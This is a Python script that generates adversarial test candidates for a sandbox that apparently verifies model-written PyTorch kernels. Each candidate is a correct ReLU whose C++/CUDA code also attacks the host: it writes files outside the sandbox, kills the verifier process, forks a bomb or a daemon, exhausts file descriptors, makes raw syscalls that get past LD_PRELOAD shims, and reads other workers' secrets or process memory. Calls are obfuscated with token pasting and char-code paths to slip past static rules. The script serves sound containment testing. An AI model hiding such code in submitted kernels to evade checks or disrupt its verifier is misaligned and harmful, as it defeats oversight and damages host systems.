"""Writes the sandbox-escape candidates from one shared native source: `tests/adversarial/escapes/` (C++ for the cpu
backend) and `tests/gpu/escapes/` (CUDA for the cuda backend: the same attacks in the host code of a CUDA extension).

Each is a correct ReLU whose native code also attacks the host once, with the calls the static rules look for spelled
by token pasting (`CAT(fo,pen)`) and paths built from character codes, so the static rules let it through and only
the sandbox stands in the way. The attack is chosen by an argument, so every candidate of a backend shares one cached
build. Run `python tests/adversarial/make_escapes.py` after editing; the generated files are committed.
"""

import contextlib
import os
import shutil
import tempfile
from pathlib import Path

HERE = Path(__file__).parent
# Files an escape would leave on the host: in its /tmp, and on the root file system outside any temp folder.
HOST_TMP_PREFIX = "/tmp/musacoder_escape_"
HOST_ROOT_FILE = "/var/lib/musacoder_escape_root.txt"
# what `write_host_tmp`, `setsid_daemon` and `raw_syscall_write` write under the prefix
HOST_TMP_LEAVES = ("host_tmp.txt", "daemon.txt", "syscall.txt")
HOST_FILES = tuple(HOST_TMP_PREFIX + leaf for leaf in HOST_TMP_LEAVES) + (HOST_ROOT_FILE,)  # none may ever appear
# `read_other_worker` looks for this file in every folder beside its own (where the verifier keeps its workers'
# folders) and for any /proc/PID/mem of a verifier process it can open; it crashes itself if it finds either, so a
# contained one ends `ok`. Tests plant the file with `secret_for` first.
SECRET_LEAF = "musacoder_secret.txt"
SECRET_TEXT = "SECRET-of-another-worker"
READ_ATTACK = "read_other_worker"


@contextlib.contextmanager
def secret_for(name: str, workers_base: Path):
    """For `read_other_worker`, a folder beside the workers' own, as another worker's (mode 0700, the verifier's
    user), holding the secret while the block runs; yields whether one was planted (a contained read then ends `ok`)."""
    if name != READ_ATTACK:
        yield False
        return
    victim = Path(tempfile.mkdtemp(prefix="cand-victim-", dir=workers_base))
    try:
        (victim / SECRET_LEAF).write_text(SECRET_TEXT)
        yield True
    finally:
        shutil.rmtree(victim)


def unsealed_builds(cache_dir: Path) -> list[str]:
    """Finished builds in the cache (`done` in them) that are not sealed (the verifier's user, 0755); raises if there
    are none, since the check would then prove nothing."""
    entries = [e for e in (Path(cache_dir) / "ext").glob("*/*") if e.is_dir() and (e / "done").exists()]
    assert entries, f"no finished build in {cache_dir}"
    return [f"{e} {oct(e.stat().st_mode)} uid {e.stat().st_uid}" for e in entries
            if not (e.stat().st_uid == os.getuid() and e.stat().st_mode & 0o7777 == 0o755)]


def codes(text: str) -> str:
    return ", ".join(str(ord(c)) for c in text)


ATTACK_SOURCE = r"""
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <dirent.h>
#include <signal.h>
#include <unistd.h>

#define CAT(a, b) a##b

// paths from character codes: the host temp folder, a file on the root file system, the process folder
static std::string from_codes(const int* c, int n) {
    std::string s;
    for (int i = 0; i < n; ++i) s += (char)c[i];
    return s;
}
static const int HOST_TMP[] = {@HOST_TMP@};
static const int HOST_ROOT[] = {@HOST_ROOT@};
static const int PROC[] = {@PROC@};
static std::string host_tmp(const char* leaf) {
    return from_codes(HOST_TMP, sizeof(HOST_TMP) / sizeof(int)) + leaf;
}
static std::string proc_dir() { return from_codes(PROC, sizeof(PROC) / sizeof(int)); }

static void write_file(const std::string& path) {
    FILE* f = CAT(fo, pen)(path.c_str(), "a");
    if (f) { fputs("escaped\n", f); fclose(f); }
}

static void kill_verifier() {
    DIR* d = opendir(proc_dir().c_str());
    if (!d) return;
    while (dirent* e = readdir(d)) {
        int pid = atoi(e->d_name);
        if (pid <= 1 || pid == getpid()) continue;
        FILE* f = CAT(fo, pen)((proc_dir() + e->d_name + "/cmdline").c_str(), "r");
        if (!f) continue;
        char buf[4096] = {0};
        size_t n = fread(buf, 1, sizeof(buf) - 1, f);
        fclose(f);
        for (size_t i = 0; i < n; ++i) if (!buf[i]) buf[i] = ' ';
        if (strstr(buf, "pytest") || strstr(buf, "musacoder")) CAT(ki, ll)(pid, SIGKILL);
    }
    closedir(d);
}

static void daemon_child() {
    if (CAT(fo, rk)() != 0) return;
    CAT(set, sid)();
    if (CAT(fo, rk)() != 0) _exit(0);
    for (int i = 0; i < 600; ++i) { CAT(sle, ep)(1); write_file(host_tmp("@DAEMON_LEAF@")); }
    _exit(0);
}

static void fork_bomb() {
    if (CAT(fo, rk)() != 0) return;
    for (;;) if (CAT(fo, rk)() < 0) CAT(sle, ep)(1);
}

static void huge_file() {
    FILE* f = CAT(fo, pen)("huge.bin", "w");
    if (!f) return;
    static char block[1 << 20];
    for (int i = 0; i < 256; ++i) fwrite(block, 1, sizeof(block), f);
    fclose(f);
}

static void exhaust_fds() {
    while (dup(0) >= 0) {}
}

// the system call instruction itself, not libc's wrappers: nothing for a source rule or an LD_PRELOAD shim to see
static long raw_call(long n, long a, long b, long c, long d) {
#if defined(__x86_64__)
    long ret;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("sys" "call" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return ret;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = n;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
#else
    return -1;
#endif
}

static void raw_write(const std::string& path) {
#if defined(__x86_64__)
    const long OPENAT = 257, WRITE = 1, CLOSE = 3;
#else
    const long OPENAT = 56, WRITE = 64, CLOSE = 57;
#endif
    long fd = raw_call(OPENAT, -100 /* AT_FDCWD */, (long)path.c_str(), 01 | 0100 | 02000 /* WRONLY|CREAT|APPEND */,
                       0644);
    if (fd < 0) return;
    static const char msg[] = "escaped\n";
    raw_call(WRITE, fd, (long)msg, sizeof(msg) - 1, 0);
    raw_call(CLOSE, fd, 0, 0, 0);
}

static const int SECRET_LEAF_CODES[] = {@SECRET_LEAF@};
static const int SECRET_CODES[] = {@SECRET@};

static void read_other_worker() {
    std::string leaf = from_codes(SECRET_LEAF_CODES, sizeof(SECRET_LEAF_CODES) / sizeof(int));
    std::string secret = from_codes(SECRET_CODES, sizeof(SECRET_CODES) / sizeof(int));
    if (DIR* d = opendir("..")) {  // the folders beside its own: other workers'
        while (dirent* e = readdir(d)) {
            FILE* f = CAT(fo, pen)((std::string("../") + e->d_name + "/" + leaf).c_str(), "r");
            if (!f) continue;
            char buf[256] = {0};
            fread(buf, 1, sizeof(buf) - 1, f);
            fclose(f);
            if (strstr(buf, secret.c_str())) abort();  // read another worker's file
        }
        closedir(d);
    }
    DIR* d = opendir(proc_dir().c_str());
    if (!d) return;
    while (dirent* e = readdir(d)) {  // the memory of the verifier, its fork server or another worker
        int pid = atoi(e->d_name);
        if (pid <= 1 || pid == getpid()) continue;
        FILE* f = CAT(fo, pen)((proc_dir() + e->d_name + "/cmdline").c_str(), "r");
        if (!f) continue;
        char buf[4096] = {0};
        size_t n = fread(buf, 1, sizeof(buf) - 1, f);
        fclose(f);
        for (size_t i = 0; i < n; ++i) if (!buf[i]) buf[i] = ' ';
        if (!strstr(buf, "pytest") && !strstr(buf, "musacoder")) continue;
        long fd = raw_call(
#if defined(__x86_64__)
            257,
#else
            56,
#endif
            -100, (long)(proc_dir() + e->d_name + "/mem").c_str(), 0 /* O_RDONLY */, 0);
        if (fd >= 0) abort();  // could read another process's memory
    }
    closedir(d);
}

static void attack_once(int64_t attack) {
    static bool done = false;
    if (done) return;
    done = true;
    if (attack == 1) write_file(host_tmp("@TMP_LEAF@"));
    if (attack == 2) kill_verifier();
    if (attack == 3) daemon_child();
    if (attack == 4) fork_bomb();
    if (attack == 5) huge_file();
    if (attack == 6) exhaust_fds();
    if (attack == 7) write_file(from_codes(HOST_ROOT, sizeof(HOST_ROOT) / sizeof(int)));
    if (attack == 8) raw_write(host_tmp("@SYSCALL_LEAF@"));
    if (attack == 9) read_other_worker();
}
""".replace("@SECRET_LEAF@", codes(SECRET_LEAF)).replace("@SECRET@", codes(SECRET_TEXT)).replace(
    "@SYSCALL_LEAF@", HOST_TMP_LEAVES[2]).replace("@HOST_TMP@", codes(HOST_TMP_PREFIX)).replace("@HOST_ROOT@", codes(HOST_ROOT_FILE)).replace(
    "@PROC@", codes("/proc/")).replace("@TMP_LEAF@", HOST_TMP_LEAVES[0]).replace("@DAEMON_LEAF@", HOST_TMP_LEAVES[1])

CPU_KIT = r'''import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

kit_source = r"""
#include <torch/extension.h>
''' + ATTACK_SOURCE + r'''
torch::Tensor relu_attack(torch::Tensor x, int64_t attack) {
    attack_once(attack);
    auto xc = x.contiguous();
    auto out = torch::empty_like(xc);
    const float* in = xc.data_ptr<float>();
    float* o = out.data_ptr<float>();
    for (int64_t i = 0; i < xc.numel(); ++i) o[i] = in[i] > 0.f ? in[i] : 0.f;
    return out;
}
"""

kit = load_inline(name="escape_kit", cpp_sources=kit_source, functions=["relu_attack"], extra_cflags=["-O2"])
'''

CUDA_KIT = r'''import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

cuda_source = r"""
#include <torch/extension.h>
''' + ATTACK_SOURCE + r'''
__global__ void relu_kernel(const float* __restrict__ in, float* __restrict__ out, int64_t n) {
    int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] > 0.f ? in[i] : 0.f;
}

torch::Tensor relu_attack(torch::Tensor x, int64_t attack) {
    attack_once(attack);
    auto xc = x.contiguous();
    auto out = torch::empty_like(xc);
    int64_t n = xc.numel();
    int threads = 256;
    int64_t blocks = (n + threads - 1) / threads;
    if (n > 0) relu_kernel<<<blocks, threads>>>(xc.data_ptr<float>(), out.data_ptr<float>(), n);
    return out;
}
"""

cpp_source = "torch::Tensor relu_attack(torch::Tensor x, int64_t attack);"

kit = load_inline(name="escape_kit_cuda", cpp_sources=cpp_source, cuda_sources=cuda_source,
                  functions=["relu_attack"], extra_cuda_cflags=["-O2"])
'''

ATTACKS = {"write_host_tmp": 1, "kill_verifier": 2, "setsid_daemon": 3, "fork_bomb": 4, "huge_file": 5,
           "fd_exhaustion": 6, "write_host_root": 7, "raw_syscall_write": 8, READ_ATTACK: 9}

MODEL = '''

ATTACK = {attack}


class ModelNew(nn.Module):
    def forward(self, x):
        return kit.relu_attack(x, ATTACK)
'''

if __name__ == "__main__":
    for kit, out in ((CPU_KIT, HERE / "escapes"), (CUDA_KIT, HERE.parent / "gpu" / "escapes")):
        out.mkdir(exist_ok=True)
        for name, attack in ATTACKS.items():
            (out / f"{name}.py").write_text(kit + MODEL.format(attack=attack))
            print("wrote", out / f"{name}.py")
